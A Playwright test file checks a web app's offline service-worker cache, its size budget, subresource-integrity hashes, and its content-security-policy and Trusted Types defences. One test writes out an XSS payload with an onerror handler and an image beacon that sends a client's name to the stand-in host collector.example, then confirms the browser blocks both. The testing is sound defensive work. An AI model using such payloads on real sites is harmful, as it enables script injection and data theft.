/** The cached app shell, the permissions of its pages, and the browser's reports of violations. */
import { archivedTypeOf, isAppArchive } from '../../shared/contracts/app-archive.ts'
import { untilOfflineReady } from '../fixtures/referral-form.ts'
import { signInAs } from '../fixtures/signed-in.ts'
import { expect, test } from '../fixtures/test.ts'

test.use({ serviceWorkers: 'allow' })

/** Bytes, unpacked; a third of them travels. Liens, Kiwi AI, the call center, the private network and support work offline before they were ever opened. */
const SHELL_BUDGET = 4_200_000

test('after a whole session only files of the app are cached, within their budget', async ({ page }) => {
  await signInAs(page)
  await untilOfflineReady(page)
  for (const path of [
    '/dashboard/referrals?tab=queue',
    '/notifications',
    '/settings/security',
    '/submit-referral',
  ]) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  const kept = await page.evaluate(async () => {
    const files: { path: string; size: number }[] = []
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys()) {
        const size = (await (await cache.match(request))?.arrayBuffer())?.byteLength ?? 0
        files.push({ path: new URL(request.url).pathname, size })
      }
    }
    return files
  })
  const foreign = kept.filter(
    ({ path }) =>
      !/^\/(?:assets\/.+|icons\/.+|[\w/-]+\.(?:svg|html)|theme\.js|manifest\.webmanifest)$/.test(path),
  )
  expect(foreign).toEqual([])
  expect(kept.map(({ path }) => path)).not.toContain('/sw-off.js')
  expect(kept.length).toBeGreaterThan(20)
  expect(kept.reduce((sum, { size }) => sum + size, 0)).toBeLessThan(SHELL_BUDGET)
})

test('a new device asks for the scripts and styles in one file, and has them all', async ({
  page,
  context,
}) => {
  const asked: string[] = []
  context.on('request', (request) => {
    if (request.serviceWorker() !== null) asked.push(new URL(request.url()).pathname)
  })
  await page.goto('/')
  await untilOfflineReady(page)
  expect(asked.filter(isAppArchive).length).toBe(1)
  expect(asked.filter((path) => path.startsWith('/assets/') && archivedTypeOf(path) !== null)).toEqual([])
  // The pages, which the server fills in, and a few pictures.
  expect(asked.length).toBeLessThan(40)
})

test('every page opens offline, also one never visited; what the server answers does not', async ({
  page,
  context,
}) => {
  await signInAs(page)
  await untilOfflineReady(page)
  await context.setOffline(true)
  await page.goto('/settings/device')
  await expect(page.getByRole('heading', { name: 'Storage on this device' })).toBeVisible()
  await page.goto('/nowhere/at/all')
  await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
  for (const path of ['/api/config', '/readyz', '/csp-report', '/auth/callback.json']) {
    await expect(page.goto(path), path).rejects.toThrow(/ERR_INTERNET_DISCONNECTED/)
  }
})

test('the page holds no inline script or style, and names the hash of what it loads', async ({ product }) => {
  const html = await (await fetch(product.origin, { headers: { accept: 'text/html' } })).text()
  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=/)
  const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag)
  const loaded = [...html.matchAll(/<link\b[^>]*rel="(?:modulepreload|stylesheet)"[^>]*>/g)].map(
    ([tag]) => tag,
  )
  expect(scripts.filter((tag) => !tag.includes('application/ld+json')).length).toBeGreaterThan(0)
  for (const tag of [...scripts, ...loaded]) {
    if (!tag.includes('application/ld+json'))
      expect(tag).toMatch(/(?:src|href)="\/(?:assets\/|theme\.js).*integrity="sha384-/)
  }
})

test('an injected script is stopped, and the server hears of it without what stood around it', async ({
  browser,
  product,
}) => {
  // Not the usual page, which fails on any violation.
  const page = await browser.newPage({ baseURL: product.origin })
  await page.goto('/signup?client=Jane-Doe')
  await expect(page.getByRole('button', { name: 'Attorney' })).toBeVisible()
  const outcome = await page.evaluate(() => {
    const stopped: string[] = []
    const attempt = (work: () => void): void => {
      try {
        work()
      } catch (error) {
        stopped.push(error instanceof TypeError ? 'TypeError' : String(error))
      }
    }
    attempt(() => (document.body.innerHTML += '<img src=x onerror="window.hacked = true">'))
    const script = document.createElement('script')
    attempt(() => (script.textContent = 'window.hacked = true // Jane Doe'))
    attempt(() => void navigator.serviceWorker.register('/assets/other.js'))
    const frame = document.createElement('img')
    frame.src = 'https://collector.example/?client=Jane-Doe'
    document.body.append(frame)
    return { stopped, hacked: 'hacked' in window }
  })
  expect(outcome.hacked).toBe(false)
  expect(outcome.stopped.filter((what) => what === 'TypeError').length).toBeGreaterThanOrEqual(2)
  const reports = (): readonly string[] =>
    product.program
      .output()
      .split('\n')
      .filter((line) => line.includes('content security policy'))
  await expect.poll(() => reports().some((line) => line.includes('"img-src"'))).toBe(true)
  await expect.poll(() => reports().some((line) => line.includes('require-trusted-types-for'))).toBe(true)
  expect(reports().join('\n')).toContain('https://collector.example"')
  expect(product.program.output()).not.toMatch(/Jane[ -]Doe/)
  await page.close()
})
